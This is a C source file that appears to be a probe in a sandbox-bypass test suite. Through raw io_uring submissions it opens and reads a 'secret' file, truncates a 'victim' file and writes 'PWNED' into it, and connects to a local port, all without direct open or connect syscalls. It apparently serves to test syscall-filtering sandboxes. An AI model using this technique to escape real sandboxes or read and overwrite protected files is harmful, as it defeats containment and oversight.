/*
 * uring.c — the forbidden operation submitted to an io_uring ring: the kernel performs it
 * with no open/connect system call from this thread at all. Raw io_uring (no liburing), the
 * ring set up through libc's syscall() or, with -DVIA_ASM, inline syscall instructions.
 *
 *   uring read     IORING_OP_OPENAT SECRET O_RDONLY, then IORING_OP_READ
 *   uring write    IORING_OP_OPENAT VICTIM O_WRONLY|O_TRUNC, then IORING_OP_WRITE
 *   uring connect  IORING_OP_CONNECT 127.0.0.1:TCP4_PORT
 */
#include "bypass.h"

#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>

#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#define SYS_io_uring_enter 426
#endif

struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	long fd = RAW(SYS_io_uring_setup, 4, &p);
	if (fd < 0)
		return (int)fd;
	r->fd = (int)fd;
	size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (cq_len > sq_len)
		sq_len = cq_len;
	/* mmap is not a guarded call: libc's is fine in both builds. */
	char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
			IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -errno;
	char *cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
			  IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return -errno;
	}
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (r->sqes == MAP_FAILED)
		return -errno;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submit one SQE and wait for its completion; returns the CQE's result. */
static int ring_run(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	long e = RAW(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (e < 0)
		return (int)e;
	unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
	if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	int res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

int main(int argc, char **argv)
{
	const char *op = argc > 1 ? argv[1] : "";
	struct ring r;
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof sqe);
	char buf[201] = {0};

	if (!strcmp(op, "connect")) {
		struct sockaddr_in sa = {.sin_family = AF_INET,
					 .sin_port = htons((uint16_t)atoi(target("BYPASS_TCP4_PORT")))};
		inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
		ATTEMPT("socket, io_uring setup + IORING_OP_CONNECT 127.0.0.1 via %s", RAW_VIA);
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (s < 0) {
			DONE("socket refused errno=%d", errno);
			return 0;
		}
		int e = ring_setup(&r);
		if (e < 0) {
			DONE("io_uring_setup refused errno=%d", -e);
			return 0;
		}
		sqe.opcode = IORING_OP_CONNECT;
		sqe.fd = s;
		sqe.addr = (unsigned long)&sa;
		sqe.off = sizeof sa;
		DONE("connect cqe=%d", ring_run(&r, &sqe));
		return 0;
	}
	if (strcmp(op, "read") && strcmp(op, "write")) {
		fprintf(stderr, "uring: unknown op %s\n", op);
		return 3;
	}
	int w = op[0] == 'w';
	const char *p = target(w ? "BYPASS_VICTIM" : "BYPASS_SECRET");
	ATTEMPT("io_uring setup + IORING_OP_OPENAT %s via %s", p, RAW_VIA);
	int e = ring_setup(&r);
	if (e < 0) {
		DONE("io_uring_setup refused errno=%d", -e);
		return 0;
	}
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)p;
	sqe.open_flags = w ? O_WRONLY | O_TRUNC : O_RDONLY;
	int fd = ring_run(&r, &sqe);
	if (fd < 0) {
		DONE("openat cqe refused errno=%d", -fd);
		return 0;
	}
	memset(&sqe, 0, sizeof sqe);
	sqe.fd = fd;
	if (w) {
		sqe.opcode = IORING_OP_WRITE;
		sqe.addr = (unsigned long)"PWNED\n";
		sqe.len = 6;
		DONE("opened for writing, wrote %d", ring_run(&r, &sqe));
	} else {
		sqe.opcode = IORING_OP_READ;
		sqe.addr = (unsigned long)buf;
		sqe.len = sizeof buf - 1;
		int n = ring_run(&r, &sqe);
		say("GOT %s", n > 0 ? buf : "");
		DONE("opened and read %d", n);
	}
	return 0;
}
